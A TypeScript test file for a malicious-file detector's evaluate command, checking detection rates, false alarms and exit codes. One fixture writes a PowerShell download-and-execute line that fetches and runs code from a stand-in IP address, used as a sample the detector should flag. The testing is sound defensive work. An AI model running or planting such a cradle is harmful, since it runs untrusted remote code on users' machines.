// The figures of `assay evaluate files`, and the command from the folders to its exit code.
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { test } from 'node:test'
import { commands } from '../src/commands/registry.ts'
import { evaluateFiles } from '../src/evaluate/file-evaluation.ts'
import type { FileLabel, JudgedFile } from '../src/evaluate/judged-files.ts'
import { runCommandLine } from '../src/run.ts'
import './no-settings.ts'

const judged = (path: string, isMalicious: boolean, label: FileLabel, score: number): JudgedFile => ({
  path,
  isMalicious,
  label,
  score,
  fileType: 'script',
  reasons: score > 0 ? [{ id: 'some_trait', score, explain: 'a trait' }] : [],
  failure: label === 'unknown' ? 'stopped' : null,
  ms: score + 1,
})

test('counts, rates and mistakes of both kinds', () => {
  const evaluation = evaluateFiles(
    [
      judged('m1', true, 'malicious', 1200),
      judged('m2', true, 'suspicious', 400),
      judged('m3', true, 'clean', 100),
      judged('m4', true, 'unknown', 0),
      judged('b1', false, 'clean', 0),
      judged('b2', false, 'suspicious', 300),
      judged('b3', false, 'malicious', 1000),
    ],
    1,
  )
  assert.equal(evaluation.malicious.flagged, 0.5)
  assert.equal(evaluation.malicious.convicted, 0.25)
  assert.equal(evaluation.benign.counts.clean, 1)
  assert.deepEqual(
    evaluation.falseAlarms.map(({ path }) => path),
    ['b3'],
  )
  assert.deepEqual(
    evaluation.misses.map(({ path }) => path),
    ['m4'],
  )
  assert.deepEqual(evaluation.failures, [{ path: 'm4', reason: 'stopped' }])
  assert.deepEqual(evaluation.detectors, [{ id: 'some_trait', malicious: 3, benign: 2 }])
  assert.equal(evaluation.slowest[0]?.path, 'm1')
  assert.equal(evaluateFiles([], 5).benign.flagged, null)
})

async function evaluate(...words: readonly string[]): Promise<{ readonly code: number; readonly text: string }> {
  let text = ''
  const sink = new Writable({
    write: (chunk, _encoding, done) => {
      text += String(chunk)
      done()
    },
  })
  const code = await runCommandLine(commands, ['evaluate', 'files', ...words], { out: sink, err: sink })
  return { code, text }
}

test('the command judges folders and tells by its exit code whether the bounds are met', {
  timeout: 120_000,
}, async () => {
  const folder = mkdtempSync(join(tmpdir(), 'evaluate-'))
  try {
    for (const kind of ['good', 'bad']) mkdirSync(join(folder, kind))
    writeFileSync(join(folder, 'good/notes.txt'), 'Buy milk, call home.\n')
    writeFileSync(join(folder, 'bad/a.ps1'), "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')")
    const [good, bad] = [join(folder, 'good'), join(folder, 'bad')]
    const { code, text } = await evaluate('--benign', good, '--malicious', bad, '--json', '--min-recall', '100')
    assert.equal(code, 0, text)
    const figures = JSON.parse(text) as { readonly malicious: { readonly flagged: number } }
    assert.equal(figures.malicious.flagged, 1)
    assert.equal((await evaluate('--benign', bad)).code, 1)
    assert.match((await evaluate()).text, /--benign or --malicious is needed/)
  } finally {
    rmSync(folder, { recursive: true })
  }
})
